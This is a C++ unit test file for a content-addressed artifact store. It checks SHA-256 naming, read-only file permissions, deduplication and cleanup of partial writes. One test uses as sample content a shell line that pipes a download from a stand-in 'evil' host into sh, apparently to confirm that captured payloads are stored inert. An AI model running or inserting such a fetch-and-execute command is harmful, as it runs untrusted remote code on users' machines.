#include "record/artifact_store.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "common/sha256.hpp"
#include "unit/record/test_files.hpp"

namespace hermes::record {
namespace {

namespace fs = std::filesystem;

struct StoreDir {
  testing::TempDir scratch;
  fs::path path = fs::path(scratch.path()) / "artifacts";  // created by the store
  std::size_t files() const {
    std::size_t n = 0;
    for ([[maybe_unused]] const auto& entry : fs::directory_iterator(path)) ++n;
    return n;
  }
};

Result<StoredArtifact> store_bytes(const ArtifactStore& store, std::string_view content) {
  auto writer = store.begin();
  if (!writer) return std::unexpected(writer.error());
  // Two pieces: the hash must cover the stream, not the last write.
  if (auto ok = (*writer)->write(content.substr(0, content.size() / 2)); !ok) return std::unexpected(ok.error());
  if (auto ok = (*writer)->write(content.substr(content.size() / 2)); !ok) return std::unexpected(ok.error());
  return (*writer)->commit();
}

TEST(ArtifactStore, StoresUnderTheHashInertAndOnce) {
  StoreDir dir;
  ArtifactStore store(dir.path.string());
  const std::string content = "#!/bin/sh\ncurl http://evil/x | sh\n";
  auto first = store_bytes(store, content);
  ASSERT_TRUE(first) << first.error().message;
  EXPECT_EQ(first->sha256, sha256_hex(content));
  EXPECT_EQ(first->size, content.size());
  EXPECT_FALSE(first->duplicate);
  EXPECT_EQ(first->path, (dir.path / first->sha256).string());
  struct stat st {};
  ASSERT_EQ(::stat(first->path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0440u);
  EXPECT_EQ(testing::read_file(first->path), content);

  auto second = store_bytes(store, content);
  ASSERT_TRUE(second);
  EXPECT_TRUE(second->duplicate);
  EXPECT_EQ(second->sha256, first->sha256);
  EXPECT_EQ(dir.files(), 1u);  // no temporary left behind
}

TEST(ArtifactStore, AbandonedWriteLeavesNothing) {
  StoreDir dir;
  ArtifactStore store(dir.path.string());
  {
    auto writer = store.begin();
    ASSERT_TRUE(writer);
    ASSERT_TRUE((*writer)->write("half a file"));
  }
  EXPECT_EQ(dir.files(), 0u);
}

TEST(ArtifactStore, EmptyFileHasTheEmptyHash) {
  StoreDir dir;
  ArtifactStore store(dir.path.string());
  auto stored = store_bytes(store, "");
  ASSERT_TRUE(stored);
  EXPECT_EQ(stored->sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_TRUE(is_artifact_name(stored->sha256));
  EXPECT_FALSE(is_artifact_name(".partial-abcdef"));
}

TEST(ArtifactStore, UnusableDirectoryIsAnError) {
  StoreDir dir;
  fs::create_directories(dir.path.parent_path());
  std::ofstream(dir.path) << "a file where the directory should be";
  ArtifactStore store(dir.path.string());
  EXPECT_FALSE(store.begin());
}

}  // namespace
}  // namespace hermes::record
